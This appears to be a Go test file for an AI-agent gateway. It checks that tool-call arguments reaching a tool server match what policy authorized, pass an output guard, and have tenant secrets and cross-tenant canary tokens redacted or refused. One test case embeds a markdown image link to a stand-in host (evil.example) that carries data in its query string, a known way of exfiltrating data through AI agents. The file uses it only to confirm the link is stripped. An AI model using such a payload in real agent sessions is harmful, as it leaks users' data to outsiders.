package agent

import (
	"bytes"
	"context"
	"encoding/json"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"reflect"
	"strings"
	"sync"
	"testing"

	"github.com/bulkhead-ai/bulkhead/internal/auth/authtest"
	"github.com/bulkhead-ai/bulkhead/internal/guard"
	"github.com/bulkhead-ai/bulkhead/internal/llm"
	"github.com/bulkhead-ai/bulkhead/internal/policy"
	"github.com/bulkhead-ai/bulkhead/internal/redact"
	"github.com/bulkhead-ai/bulkhead/internal/secret"
	"github.com/bulkhead-ai/bulkhead/internal/store"
	"github.com/bulkhead-ai/bulkhead/internal/tenant"
	"github.com/bulkhead-ai/bulkhead/internal/tools"
)

// seeingGuard is the real guard, recording every text it passed, as it
// will leave once redacted.
type seeingGuard struct {
	*guard.Guard
	red    *redact.Redactor
	mu     sync.Mutex
	passed map[string]bool
}

func (g *seeingGuard) CheckFrom(id tenant.ID, text string, allowHosts []string, in *guard.Inputs) guard.Verdict {
	v := g.Guard.CheckFrom(id, text, allowHosts, in)
	if !v.Blocked {
		g.mu.Lock()
		g.passed[g.red.String(v.Text)] = true
		g.mu.Unlock()
	}
	return v
}

// stringsOf lists every string in a decoded JSON value, keys included.
func stringsOf(v any) []string {
	switch v := v.(type) {
	case string:
		return []string{v}
	case []any:
		var out []string
		for _, e := range v {
			out = append(out, stringsOf(e)...)
		}
		return out
	case map[string]any:
		var out []string
		for k, e := range v {
			out = append(out, k)
			out = append(out, stringsOf(e)...)
		}
		return out
	}
	return nil
}

// canonicalRig is acme's toolbox calling a real HTTP tool server through
// the HTTP executor; it records what policy saw and what the server got.
type canonicalRig struct {
	box    *toolbox
	guard  *seeingGuard
	mu     sync.Mutex
	policy []tools.Args // what Authorize was asked about
	bodies [][]byte     // what the server received
}

func newCanonicalRig(t *testing.T) *canonicalRig {
	t.Helper()
	r := &canonicalRig{}
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		b, _ := io.ReadAll(req.Body)
		r.mu.Lock()
		r.bodies = append(r.bodies, b)
		r.mu.Unlock()
		io.WriteString(w, "ok")
	}))
	t.Cleanup(srv.Close)
	tool, err := tools.Compile(tools.Definition{
		Name: "ticket", Description: "Open a ticket", Scope: tools.ScopeTenant,
		Parameters: json.RawMessage(`{"type":"object","properties":{
			"title":{"type":"string"},"body":{"type":"string"},"priority":{"type":"number"},
			"urgent":{"type":"boolean"},"tenant_id":{"type":"string"},
			"labels":{"type":"array","items":{"type":"string"}},
			"meta":{"type":"object","additionalProperties":true}}}`),
		Bound: map[string]string{"tenant_id": tools.BindTenantID},
		HTTP:  &tools.HTTPSpec{Method: "POST", URL: srv.URL + "/tickets"},
	})
	if err != nil {
		t.Fatal(err)
	}
	engine, err := policy.NewEngine()
	if err != nil {
		t.Fatal(err)
	}
	set, err := engine.Compile("acme", map[string][]string{"default": {"ticket"}},
		`forbid (principal, action == Action::"call_tool", resource == Tool::"ticket") when { context has title && context.title == "vip" };`)
	if err != nil {
		t.Fatal(err)
	}
	g := guard.New()
	g.SetCanaries("globex", []string{globexCanary})
	secrets := []store.Secret{{Name: "crm_token", Value: secret.New(acmeSecret)}}
	r.guard = &seeingGuard{Guard: g, red: redactor(secrets), passed: map[string]bool{}}
	a, err := New(Deps{Tools: catalog{"ticket": tool}, HTTP: tools.NewHTTP(tools.HTTPOptions{}), Guard: r.guard, Quota: NoQuota, Audit: NoAudit})
	if err != nil {
		t.Fatal(err)
	}
	r.box = a.toolbox(context.Background(), authtest.Scope(t, "acme", "alice"),
		Profile{Name: "default", Tools: []string{"ticket"}, Policy: set, AllowedHosts: []string{"docs.acme.example"}},
		secrets, redactor(secrets))
	r.box.authorized = func(_ string, args tools.Args) {
		r.mu.Lock()
		defer r.mu.Unlock()
		r.policy = append(r.policy, args)
	}
	return r
}

// TestToolServerGetsWhatPolicySaw: the bytes the tool server receives are
// byte for byte the canonical encoding of the value policy authorized, and
// every string in them passed the guard as it is.
func TestToolServerGetsWhatPolicySaw(t *testing.T) {
	tests := []struct {
		name, args string
		// in, out: substrings the server must (must not) receive.
		in, out []string
	}{
		{"plain", `{"title":"Printer","body":"It is <b>broken</b> & smoking"}`, []string{`<b>broken</b> & smoking`}, nil},
		{"escapes decoded", `{"title":"\u0050rinter \/ scanner","body":"tab\there\u2028line"}`, []string{`"Printer / scanner"`, "\u2028"}, nil},
		{"numbers in one spelling", `{"title":"n","priority":1.50e0,"labels":["a","b"]}`, []string{`"priority":1.5`}, []string{"1.50e0"}},
		{"key order and nesting", `{"meta":{"z":1,"a":{"k":[true,false,null]}},"title":"x"}`, []string{`"meta":{"a":{"k":[true,false,null]},"z":1}`}, nil},
		{"image removed before it leaves", `{"title":"t","body":"Thanks! ![x](https:\/\/evil.example\/p.png?d=DATA) bye"}`, []string{"Thanks!", "bye"}, []string{"evil.example", "DATA"}},
		{"own secret redacted after decoding", `{"title":"t","body":"token \u0061cme-crm-token-1234"}`, []string{"[REDACTED:crm_token]"}, []string{acmeSecret}},
		{"secret in a free-form key refused", `{"title":"t","meta":{"acme-crm-token-1234":1}}`, nil, nil},
		{"canary in a free-form key refused", `{"title":"t","meta":{"x":{"bkc-q7x2mfk6vw4tz5rc3hnp":1}}}`, nil, nil},
		{"escaped canary refused", `{"title":"t","labels":["\u0062kc-q7x2mfk6vw4tz5rc3hnp"]}`, nil, nil},
		{"policy sees the decoded value", `{"title":"\u0076ip"}`, nil, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := newCanonicalRig(t)
			got := r.box.call(context.Background(), llm.ToolCall{ID: "c1", Function: llm.FunctionCall{Name: "ticket", Arguments: tt.args}})
			if tt.in == nil {
				if len(r.bodies) != 0 {
					t.Fatalf("server got %q, want nothing (answer %q)", r.bodies, got)
				}
				return
			}
			if got != "ok" || len(r.bodies) != 1 || len(r.policy) != 1 {
				t.Fatalf("answer %q, %d requests, %d policy checks; want ok, 1, 1", got, len(r.bodies), len(r.policy))
			}
			body, saw := r.bodies[0], r.policy[0]
			if !bytes.Equal(body, saw.JSON) {
				t.Fatalf("server got\n%s\npolicy saw\n%s", body, saw.JSON)
			}
			enc, err := tools.Encode(saw.Value)
			if err != nil || !bytes.Equal(enc, body) {
				t.Fatalf("Encode(value policy saw) = %s, %v; want the bytes sent %s", enc, err, body)
			}
			var decoded map[string]any
			if err := json.Unmarshal(body, &decoded); err != nil || !reflect.DeepEqual(decoded, saw.Value) {
				t.Fatalf("server decodes %v (%v), policy saw %v", decoded, err, saw.Value)
			}
			for _, s := range stringsOf(saw.Value) {
				if !r.guard.passed[s] && s != "acme" && s != "tenant_id" { // the bound parameter is the runtime's
					t.Errorf("%q reached the server without passing the guard", s)
				}
			}
			for _, s := range tt.in {
				if !bytes.Contains(body, []byte(s)) {
					t.Errorf("server got %s, want it to hold %q", body, s)
				}
			}
			for _, s := range tt.out {
				if bytes.Contains(body, []byte(s)) {
					t.Errorf("server got %s, which holds %q", body, s)
				}
			}
		})
	}
}

// BenchmarkToolCallGuarded is BenchmarkToolCall with the output guard (one
// other tenant's canary, an allow-list) checking every argument string.
func BenchmarkToolCallGuarded(b *testing.B) {
	h := newHostile(b)
	h.box.a.Logger = slog.New(slog.DiscardHandler)
	h.box.a.Audit = NoAudit
	tc := llm.ToolCall{ID: "c1", Function: llm.FunctionCall{Name: "crm_update",
		Arguments: `{"customer":"c-1","note":"Printer on floor 3 is jammed, see https://docs.acme.example/printers"}`}}
	ctx := context.Background()
	b.ReportAllocs()
	for b.Loop() {
		if out := h.box.call(ctx, tc); !strings.HasPrefix(out, "ok") {
			b.Fatal(out)
		}
	}
}
